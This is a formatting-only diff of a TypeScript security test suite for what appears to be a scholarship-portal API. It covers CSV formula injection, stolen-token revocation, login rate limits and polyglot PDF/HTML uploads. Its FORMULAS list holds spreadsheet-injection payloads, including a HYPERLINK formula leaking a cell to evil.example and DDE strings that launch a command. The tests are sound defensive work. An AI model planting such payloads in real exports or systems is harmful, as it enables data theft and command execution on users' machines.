@@ -48,7 +48,15 @@ function csvCells(text: string): string[][] {
   return rows.filter((row) => row.length > 0);
 }
 
-const FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1', '=1+1'];
+const FORMULAS = [
+  '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+  "+cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  '\t=1+1',
+  '\r=1+1',
+  '=1+1',
+];
 /** What Excel, LibreOffice and Google Sheets take as the start of a formula. */
 const RUNS_AS_FORMULA = /^[=+\-@\t\r]/;
 
@@ -61,13 +69,38 @@ describe('CSV formula injection', () => {
       await admin.post('/api/v1/blog-categories/store', { title: formula });
       await admin.post('/api/v1/user-roles/store', { title: `${formula} ${i}` });
       await admin.post('/api/v1/web-page-menu/store', { title: formula, content_url: `/formula-${i}` });
-      await admin.post('/api/v1/page-build/store', { title: formula, url: `formula-${i}`, published_at: '2026-11-22T10:30', meta_title: formula, meta_description: formula });
+      await admin.post('/api/v1/page-build/store', {
+        title: formula,
+        url: `formula-${i}`,
+        published_at: '2026-11-22T10:30',
+        meta_title: formula,
+        meta_description: formula,
+      });
       await admin.post('/api/v1/users/store', validRegistration(620 + i, { name: formula, contact_person: formula, post_office: formula }));
-      const student = { class: '04', class_roll: String(i + 1), gender: 'm', department: 'p', name_bangla: formula, name_english: `x ${formula}`, father_name_english: formula, mother_name_english: formula, contact_number: '01911000000', post_office: formula, division_id, zilla_id, upozilla_id };
+      const student = {
+        class: '04',
+        class_roll: String(i + 1),
+        gender: 'm',
+        department: 'p',
+        name_bangla: formula,
+        name_english: `x ${formula}`,
+        father_name_english: formula,
+        mother_name_english: formula,
+        contact_number: '01911000000',
+        post_office: formula,
+        division_id,
+        zilla_id,
+        upozilla_id,
+      };
       expect((await institute.post('/api/v1/scholarship-registrations/store', student)).status).toBeLessThan(500);
       // The user agent is the attacker's to choose and lands in the audit log's export.
       const row = (await admin.post('/api/v1/news-categories/store', { title: `ua ${i}` })).body.data as { id: number };
-      await t.app.inject({ method: 'POST', url: '/api/v1/news-categories/soft-delete', headers: { authorization: `Bearer ${adminKey}`, 'user-agent': formula }, payload: { id: row.id } });
+      await t.app.inject({
+        method: 'POST',
+        url: '/api/v1/news-categories/soft-delete',
+        headers: { authorization: `Bearer ${adminKey}`, 'user-agent': formula },
+        payload: { id: row.id },
+      });
     }
 
     const models = ['blog-categories', 'user-roles', 'web-page-menu', 'page-build', 'users', 'scholarship-registrations', 'audit-logs'];
@@ -94,7 +127,12 @@ describe('stolen tokens', () => {
       api.get('/api/v1/profile'),
       api.get('/api/v1/scholarship-registrations'),
       api.get('/api/v1/scholarship-registrations/analytics'),
-      api.post('/api/v1/scholarship-payments/store', { payment_method: 'bkash', amount: 200, transaction_id: `STOLEN${token.slice(0, 6)}`, date: '2026-01-10' }),
+      api.post('/api/v1/scholarship-payments/store', {
+        payment_method: 'bkash',
+        amount: 200,
+        transaction_id: `STOLEN${token.slice(0, 6)}`,
+        date: '2026-01-10',
+      }),
       api.post('/api/v1/export-data', { model: 'scholarship-registrations' }),
       api.post('/api/v1/profile/update-info', validRegistration(699)),
     ]).then((answers) => answers.map((a) => a.status));
@@ -113,7 +151,11 @@ describe('stolen tokens', () => {
   it('other sessions die when the owner changes the password; the changing session lives', async () => {
     const { uid, token: changing } = await instituteSession(t, 631);
     const stolen = await loginToken(t, uid, 'secret-pass-1');
-    const res = await client(t, changing).post('/api/v1/profile/update-password', { old_password: 'secret-pass-1', password: 'fresh-pass-2', password_confirmation: 'fresh-pass-2' });
+    const res = await client(t, changing).post('/api/v1/profile/update-password', {
+      old_password: 'secret-pass-1',
+      password: 'fresh-pass-2',
+      password_confirmation: 'fresh-pass-2',
+    });
     expect(res.status).toBe(200);
     expect(new Set(await attempts(stolen))).toEqual(new Set([401]));
     expect((await client(t, changing).post('/api/auth/me')).status).toBe(200);
@@ -146,17 +188,39 @@ describe('password guessing', () => {
       const registered = (await t2.app.inject({ method: 'POST', url: '/api/auth/register', payload: account })).json() as { data: { user: { uid: string } } };
       const mobile = String(account.phone_number);
       const bengali = mobile.replace(/\d/g, (d) => String.fromCharCode(0x09e6 + Number(d)));
-      const forms = [String(account.email), String(account.email).toUpperCase(), ` ${String(account.email)} `, mobile, `+88${mobile}`, bengali, registered.data.user.uid];
+      const forms = [
+        String(account.email),
+        String(account.email).toUpperCase(),
+        ` ${String(account.email)} `,
+        mobile,
+        `+88${mobile}`,
+        bengali,
+        registered.data.user.uid,
+      ];
       const statuses: number[] = [];
       // Each guess from a different address, so only the per-account limit can stop them.
       for (let i = 0; i < 11; i++) {
-        const res = await t2.app.inject({ method: 'POST', url: '/api/auth/login', remoteAddress: `198.51.100.${i + 1}`, payload: { email: forms[i % forms.length], password: `guess-${i}` } });
+        const res = await t2.app.inject({
+          method: 'POST',
+          url: '/api/auth/login',
+          remoteAddress: `198.51.100.${i + 1}`,
+          payload: { email: forms[i % forms.length], password: `guess-${i}` },
+        });
         statuses.push(res.statusCode);
       }
       expect(statuses.slice(0, 10)).toEqual(Array(10).fill(422));
       expect(statuses[10]).toBe(429);
       // The owner is locked out for the window too: that is the price of stopping the guessing.
-      expect((await t2.app.inject({ method: 'POST', url: '/api/auth/login', remoteAddress: '198.51.100.99', payload: { email: mobile, password: String(account.password) } })).statusCode).toBe(429);
+      expect(
+        (
+          await t2.app.inject({
+            method: 'POST',
+            url: '/api/auth/login',
+            remoteAddress: '198.51.100.99',
+            payload: { email: mobile, password: String(account.password) },
+          })
+        ).statusCode,
+      ).toBe(429);
     } finally {
       await t2.close();
     }
@@ -167,7 +231,13 @@ describe('password guessing', () => {
     try {
       const statuses: number[] = [];
       for (let i = 0; i < 61; i++) {
-        const res = await t2.app.inject({ method: 'POST', url: '/api/auth/login', remoteAddress: '203.0.113.50', headers: { 'x-forwarded-for': `10.0.${i}.1` }, payload: { email: `nobody${i}@example.test`, password: 'x' } });
+        const res = await t2.app.inject({
+          method: 'POST',
+          url: '/api/auth/login',
+          remoteAddress: '203.0.113.50',
+          headers: { 'x-forwarded-for': `10.0.${i}.1` },
+          payload: { email: `nobody${i}@example.test`, password: 'x' },
+        });
         statuses.push(res.statusCode);
       }
       expect(statuses.slice(0, 60).includes(429)).toBe(false);
@@ -199,7 +269,14 @@ describe('polyglot uploads', () => {
   });
 
   it('a PDF that is also an HTML page is served as a PDF that no browser sniffs into a page', async () => {
-    const res = await upload(t.app, [{ name: 'accept', value: 'application/pdf' }, { name: 'content_file', file: Buffer.concat([pdf(), Buffer.from(SCRIPT)]), filename: 'notice.html' }], bearer(adminKey));
+    const res = await upload(
+      t.app,
+      [
+        { name: 'accept', value: 'application/pdf' },
+        { name: 'content_file', file: Buffer.concat([pdf(), Buffer.from(SCRIPT)]), filename: 'notice.html' },
+      ],
+      bearer(adminKey),
+    );
     expect(res.status, JSON.stringify(res.body)).toBe(200);
     const stored = res.body.data as string;
     expect(stored).toMatch(/\.pdf$/);
